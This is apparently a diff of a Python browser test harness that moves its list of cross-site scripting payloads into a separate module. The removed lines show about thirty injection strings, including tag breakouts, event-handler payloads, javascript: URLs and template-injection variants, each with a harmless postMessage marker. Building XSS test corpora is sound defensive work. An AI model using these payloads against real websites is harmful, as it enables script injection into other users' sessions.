@@ -9,44 +9,10 @@ import urllib.parse
 
 from debug_site import BROWSER, DebugSite
 from driver import main
+from xss import CORPUS
 
 CHROMIUM = shutil.which("chromium")
 
-# Told to the page that holds all others in frames. It needs no quotes.
-HIT = "top.postMessage(1,unescape(/%2a/.source))"
-CORPUS = [
-    f"<script>{HIT}</script>",
-    f"</title><script>{HIT}</script>",
-    f"</textarea><script>{HIT}</script>",
-    f"</style><script>{HIT}</script>",
-    f"</script><script>{HIT}</script>",
-    f"--><script>{HIT}</script><!--",
-    f"]]><script>{HIT}</script>",
-    f"<img src=x onerror={HIT}>",
-    f"<svg onload={HIT}>",
-    f"<svg><script>{HIT}</script></svg>",
-    f"<body onload={HIT}>",
-    f"<details open ontoggle={HIT}>x",
-    f"<input autofocus onfocus={HIT}>",
-    f"<iframe srcdoc=\"<script>{HIT}</script>\">",
-    f"<iframe src=\"javascript:{HIT}\">",
-    f"\" onmouseover={HIT} autofocus onfocus={HIT} x=\"",
-    f"' autofocus onfocus={HIT} x='",
-    f"`-{HIT}-`",
-    f"\";{HIT}//",
-    f"';{HIT}//",
-    f"${{{HIT}}}",
-    f"{{{{constructor.constructor('{HIT}')()}}}}",
-    f"<math><mtext><script>{HIT}</script></mtext></math>",
-    f"<object data=\"javascript:{HIT}\"></object>",
-    f"<video><source onerror={HIT}></video>",
-    f"<style>@import 'javascript:{HIT}';</style>",
-    f"<base href=\"javascript:{HIT}//\">",
-    f"<meta http-equiv=refresh content=\"0;url=javascript:{HIT}\">",
-    f"\u2028<script>{HIT}</script>",
-    f"&lt;script&gt;{HIT}&lt;/script&gt;<script>{HIT}</script>",
-    f"<scr\tipt>{HIT}</scr\tipt><ScRiPt >{HIT}</ScRiPt >",
-]
 ALL = " ".join(CORPUS)
 
 FRAMES = """<!doctype html>
